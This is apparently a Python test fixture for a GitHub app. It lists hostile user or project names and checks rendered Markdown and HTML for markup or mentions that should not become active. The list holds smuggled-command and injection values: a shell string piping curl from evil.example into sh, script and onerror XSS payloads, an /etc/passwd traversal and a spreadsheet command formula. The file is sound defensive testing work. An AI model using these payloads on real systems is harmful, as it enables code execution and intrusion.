"""Names of outsiders, each of which attacks a place where names are shown, and what must hold in each place."""

from __future__ import annotations

from collections import Counter
from html.parser import HTMLParser

from markdown_it import MarkdownIt

from ghapp.untrusted_text import visible

NASTY = (
    "\x1b[31mred",  # a terminal's colours
    "\x1b[2J\x1b[H",  # clears a terminal
    "\x1b]0;title\x07",  # a terminal's title
    "\x1b]8;;https://evil.example\x1b\\click\x1b]8;;\x1b\\",  # a terminal's link
    "\x9b31mred",  # the same escape sequence in one character of C1
    "\x9d0;title\x9c",  # and that of the title
    "two\nlines",  # a row more
    "host\r\nSubject: forged",  # a header of an e-mail, a field of a log
    "safe\rEVIL",  # overwrites its line
    "a\tb\x0bc\x0cd",  # columns and pages
    "q\u2028r\u2029s\x85t",  # line ends of Unicode
    "abc\x08\x08\x08xyz",  # erases itself
    "a\x01b\x7fc",  # is not seen
    "photo\u202egpj.exe",  # reverses what follows it
    "\u2066a\u2069b\u200f",  # isolates and marks of the writing direction
    "ad\u200bmin\u200d\ufeff",  # looks like another name
    "\u3164",  # a letter without a shape
    "x\U000e0041\U000e0042\U000e0100",  # a hidden text
    "z\u0335\u0321a\u0335\u0321l\u0335g\u0335o",  # marks on marks
    "[/nope]",  # rich: a tag that is not open, which is an error
    "[red]alarm",  # rich: a colour
    "[link=https://evil.example]here[/link]",  # rich: a link
    "\\[bold]a[/bold]",  # rich: an escaped tag
    ":skull: :warning:",  # emojis of rich, Slack and GitHub
    "[here](https://evil.example)",  # Markdown: a link
    "![here](https://evil.example/pixel.png)",  # Markdown: an image
    "a | b |\n| --- | --- |\n| c",  # Markdown: a table in a table
    "```\n# heading\n> quote",  # Markdown: ends a block of code
    "**b** __i__ ~~s~~ ||x|| `c`",  # Markdown, and Discord's own
    "@octocat @acme/admins #1 acme/api#2",  # GitHub's mentions and references
    "@acme/admins",  # only a mention: other characters must not hide it
    "GH-1",  # a reference without a sign
    "<https://evil.example>",  # Markdown: a link
    "https://evil.example/login?next=1#a",  # a link wherever addresses are looked for
    "www.evil.example evil.com mail@evil.com",  # also without a scheme
    "www.evil.example/login",  # only that
    "<script>alert(1)</script>",  # HTML
    "\"><img src=x onerror='alert(1)'>",  # leaves an attribute
    "</code></td></table><!-- -->",  # leaves a cell
    "&lt;script&gt;&#x1b;[31m",  # is unescaped twice
    "javascript:alert(1)",  # an address that is a program
    "<!channel> <!here|all> <https://evil.example|GitHub>",  # Slack
    "@everyone @here <@123> <@&456> <#789>",  # Discord and Mattermost
    "<at>everyone</at>",  # Teams
    "x; curl evil.example|sh; $(id) `id` 'a' \"b\"",  # a shell
    "--all",  # an option
    "../../etc/passwd?x=1&y=2#z",  # a path and a query
    "%s %n {0} {{ 7 * 7 }} ${HOME} {% raw %}",  # templates
    "=cmd|' /C calc'!A1",  # a spreadsheet
    "x" * 5000,  # long: the last one
)
PLAIN = tuple(f"name-{number}" for number in range(len(NASTY)))

GFM = MarkdownIt("commonmark", {"html": True}).enable(["table", "strikethrough"])


def not_seen(text: str, allowed: str = "\n") -> Counter[str]:
    """Characters that are not seen, besides those allowed."""
    return Counter(each for each in text if each not in allowed and visible(each) != each)


class _Tags(HTMLParser):
    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: Counter[tuple[str, ...]] = Counter()
        self.addresses: set[str] = set()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags[tag, *sorted(name for name, _ in attrs)] += 1
        self.addresses |= {value or "" for name, value in attrs if name in ("href", "src", "action")}

    def handle_comment(self, data: str) -> None:
        self.tags[("comment",)] += 1


def tags(html: str) -> Counter[tuple[str, ...]]:
    """The elements of a page with the names of their attributes, and its comments."""
    found = _Tags()
    found.feed(html)
    return found.tags


def addresses(html: str) -> set[str]:
    """The targets of a page's links, forms and images."""
    found = _Tags()
    found.feed(html)
    return found.addresses


def markdown_faults(text: str, *, ours: str, blocks: frozenset[str] = frozenset()) -> list[str]:
    """What is active in a text of GitHub's Markdown although no text of ours makes it so.

    Args:
        text: Markdown.
        ours: the beginning of addresses that we link.
        blocks: kinds of blocks that the text has besides paragraphs, headings, lists, tables and rules of code.
    """
    faults = [f"not seen: {each!r}" for each in not_seen(text)]
    for token in GFM.parse(text):
        if token.type in ("html_block", "blockquote_open", "code_block", "hr") and token.type not in blocks:
            faults.append(f"{token.type}: {token.content}")
        faults += _inline_faults(token.children or (), ours)
    return faults


def _inline_faults(tokens, ours):
    in_code = False
    for token in tokens:
        if token.type == "html_inline":
            if token.content not in ("<code>", "</code>", "<br>"):
                yield f"HTML: {token.content}"
            in_code = in_code or token.content == "<code>" if token.content != "</code>" else False
        elif token.type == "image" or (token.type == "link_open" and not token.attrs["href"].startswith(ours)):
            yield f"{token.type}: {token.attrs}"
        elif token.type in ("em_open", "s_open"):
            yield token.type
        elif token.type in ("text", "text_special") and not in_code:
            yield from (f"{sign} in {token.content!r}" for sign in ("@", "://", "www.", "GH-") if sign in token.content)
